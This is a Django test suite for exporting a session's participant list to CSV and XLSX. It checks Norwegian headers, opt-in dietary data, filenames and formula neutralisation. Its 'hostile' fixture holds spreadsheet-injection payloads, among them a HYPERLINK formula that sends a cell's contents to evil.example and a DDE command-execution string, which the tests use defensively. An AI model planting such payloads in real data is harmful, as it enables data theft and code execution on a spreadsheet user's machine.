"""A session's list as CSV and XLSX: read back with the csv module and openpyxl."""

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from participants.models import Registration
from tests import factories

OSLO = ZoneInfo("Europe/Oslo")

BEFORE = ["Navn", "Kommune eller enhet", "Rolle", "Stilling", "E-post", "Telefon"]
AFTER = ["Status", "Plass på ventelisten", "Oppmøte", "Påmeldt tidspunkt"]
HEADERS = [*BEFORE, *AFTER]
WITH_DIETARY = [*BEFORE, "Kostbehov", *AFTER]


def at(registration):
    return timezone.localtime(registration.created_at).strftime("%Y-%m-%d %H:%M")


@pytest.fixture
def session(programme):
    return factories.SessionFactory(
        programme=programme,
        title="Pårørendes rettigheter / «lov»",
        starts_at=dt.datetime(2031, 11, 23, 9, 0, tzinfo=OSLO),
        ends_at=dt.datetime(2031, 11, 23, 15, 0, tzinfo=OSLO),
        registration_deadline=dt.datetime(2031, 11, 16, 9, 0, tzinfo=OSLO),
    )


@pytest.fixture
def registrations(session, organisation):
    confirmed = factories.RegistrationFactory(
        session=session,
        participant=factories.ParticipantFactory(
            full_name="Åse Ærlig",
            organisation=organisation,
            phone="91763827",
            dietary_needs="Glutenfri, laktoseallergi",
            user__email="ase@gjovik.kommune.no",
        ),
    )
    waiting = factories.RegistrationFactory(
        session=session,
        status=Registration.Status.WAITLISTED,
        confirmed_at=None,
        waitlisted_at=timezone.now(),
        participant=factories.LeaderFactory(
            full_name="Øystein Leder", organisation=organisation, user__email="oy@example.no"
        ),
    )
    gone = factories.RegistrationFactory(
        session=session,
        status=Registration.Status.CANCELLED,
        cancelled_at=timezone.now(),
        participant__full_name="Cecilie Avmeldt",
    )
    return confirmed, waiting, gone


@pytest.fixture
def hostile(session):
    """A person whose profile was written to attack the coordinator's spreadsheet."""
    return factories.RegistrationFactory(
        session=session,
        participant=factories.ParticipantFactory(
            full_name='=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
            job_title="Angriper",
            phone="+4791763827",
            dietary_needs="@SUM(1+1)*cmd|' /C calc'!A0",
            organisation=factories.OrganisationFactory(name="-2+3"),
        ),
    )


def csv_rows(response):
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_it_exports_csv_with_a_bom_semicolons_and_norwegian_headers(
    login, coordinator, session, registrations
):
    response = login(coordinator).get(
        reverse("coordination:export_csv", args=[session.pk]), {"dietary": "1"}
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert rows[0] == WITH_DIETARY
    confirmed, waiting, gone = registrations
    assert rows[1:] == [
        [
            "Åse Ærlig",
            "Gjøvik kommune",
            "Tjenesteutøver",
            confirmed.participant.job_title,
            "ase@gjovik.kommune.no",
            "91763827",
            "Glutenfri, laktoseallergi",
            "Påmeldt",
            "",
            "",
            at(confirmed),
        ],
        [
            "Øystein Leder",
            "Gjøvik kommune",
            "Leder",
            waiting.participant.job_title,
            "oy@example.no",
            "40000000",
            "",
            "På venteliste nr. 1",
            "1",
            "",
            at(waiting),
        ],
        [
            "Cecilie Avmeldt",
            gone.participant.organisation.name,
            "Tjenesteutøver",
            gone.participant.job_title,
            gone.participant.user.email,
            "40000000",
            "",
            "Avmeldt",
            "",
            "",
            at(gone),
        ],
    ]


def test_it_exports_attendance_once_taken(login, coordinator, session, registrations):
    confirmed = registrations[0]
    Registration.objects.filter(pk=confirmed.pk).update(attended=False)
    response = login(coordinator).get(reverse("coordination:export_csv", args=[session.pk]))
    rows = csv_rows(response)
    assert rows[1][HEADERS.index("Oppmøte")] == "Ikke møtt"


@pytest.mark.parametrize("name", ["export_csv", "export_xlsx"])
@pytest.mark.parametrize("query", [{}, {"dietary": ""}, {"dietary": "0"}, {"dietary": "yes"}])
def test_it_leaves_dietary_needs_out_unless_asked(
    login, coordinator, session, registrations, name, query
):
    response = login(coordinator).get(reverse(f"coordination:{name}", args=[session.pk]), query)

    content = response.content
    if name == "export_xlsx":
        rows = list(xlsx_sheet(response).iter_rows(values_only=True))
        assert list(rows[0]) == HEADERS
        content = repr(rows).encode()
    else:
        assert csv_rows(response)[0] == HEADERS
    assert b"laktoseallergi" not in content


@pytest.mark.parametrize("name", ["export_csv", "export_xlsx"])
def test_it_includes_dietary_needs_when_asked(login, coordinator, session, registrations, name):
    response = login(coordinator).get(
        reverse(f"coordination:{name}", args=[session.pk]), {"dietary": "1"}
    )

    if name == "export_xlsx":
        rows = [list(r) for r in xlsx_sheet(response).iter_rows(values_only=True)]
    else:
        rows = csv_rows(response)
    assert rows[0] == WITH_DIETARY
    assert rows[1][WITH_DIETARY.index("Kostbehov")] == "Glutenfri, laktoseallergi"


def test_the_list_offers_dietary_needs_as_a_choice_off_by_default(login, coordinator, session):
    page = login(coordinator).get(reverse("coordination:session", args=[session.pk]))

    html = page.content.decode()
    assert 'name="dietary" value="1"' in html
    assert "checked" not in html.split('id="export-dietary"')[0].rsplit("<input", 1)[1]
    assert "helseopplysninger" in html


def test_it_exports_xlsx_with_the_same_rows(login, coordinator, session, registrations):
    client = login(coordinator)
    csv_response = client.get(reverse("coordination:export_csv", args=[session.pk]))
    response = client.get(reverse("coordination:export_xlsx", args=[session.pk]))
    dietary_csv = client.get(reverse("coordination:export_csv", args=[session.pk]), {"dietary": 1})
    dietary_xlsx = client.get(
        reverse("coordination:export_xlsx", args=[session.pk]), {"dietary": 1}
    )
    assert [
        [cell if cell is not None else "" for cell in row]
        for row in xlsx_sheet(dietary_xlsx).iter_rows(values_only=True)
    ] == csv_rows(dietary_csv)
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = xlsx_sheet(response)
    rows = [
        [cell if cell is not None else "" for cell in row]
        for row in sheet.iter_rows(values_only=True)
    ]
    assert rows == csv_rows(csv_response)
    assert rows[0] == HEADERS
    assert sheet["A1"].font.bold


def test_it_names_the_files_safely(login, coordinator, session, registrations):
    client = login(coordinator)
    for name, extension in [("export_csv", "csv"), ("export_xlsx", "xlsx")]:
        response = client.get(reverse(f"coordination:{name}", args=[session.pk]))
        expected = f"deltakerliste-parorendes-rettigheter-lov-2031-11-23.{extension}"
        assert response["Content-Disposition"] == f'attachment; filename="{expected}"'
        assert response["Cache-Control"] == "private, no-store"


def test_it_neutralises_formulas_in_csv(login, coordinator, session, hostile):
    response = login(coordinator).get(
        reverse("coordination:export_csv", args=[session.pk]), {"dietary": "1"}
    )
    [row] = csv_rows(response)[1:]
    assert row[0] == "'" + hostile.participant.full_name
    assert row[1] == "'-2+3"
    assert row[WITH_DIETARY.index("Telefon")] == "'+4791763827"
    assert row[WITH_DIETARY.index("Kostbehov")] == "'" + hostile.participant.dietary_needs
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@")), cell


def test_it_neutralises_formulas_in_xlsx(login, coordinator, session, hostile):
    response = login(coordinator).get(
        reverse("coordination:export_xlsx", args=[session.pk]), {"dietary": "1"}
    )
    sheet = xlsx_sheet(response)
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert cells[0].value == "'" + hostile.participant.full_name
    for cell in cells:
        assert cell.data_type in ("s", "inlineStr"), cell.coordinate  # text, never a formula
        assert not str(cell.value or "").startswith(("=", "+", "-", "@")), cell.coordinate


def test_it_exports_only_the_header_for_an_empty_session(login, coordinator, session):
    response = login(coordinator).get(reverse("coordination:export_csv", args=[session.pk]))
    assert csv_rows(response) == [HEADERS]


def test_its_query_count_stays_the_same_with_ten_times_the_registrations(
    login, coordinator, session, assert_queries
):
    client = login(coordinator)
    url = reverse("coordination:export_xlsx", args=[session.pk])
    factories.RegistrationFactory.create_batch(3, session=session)
    # 1 auth session, 2 user, 3 the coordinator's participant row (permission check),
    # 4 the session with programme, venue and seat counts, 5 how many sessions of its kind,
    # 6 every registration with participant, user and organisation
    with assert_queries(5):
        client.get(url)
    factories.RegistrationFactory.create_batch(27, session=session)
    with assert_queries(5):
        response = client.get(url)
    assert xlsx_sheet(response).max_row == 31
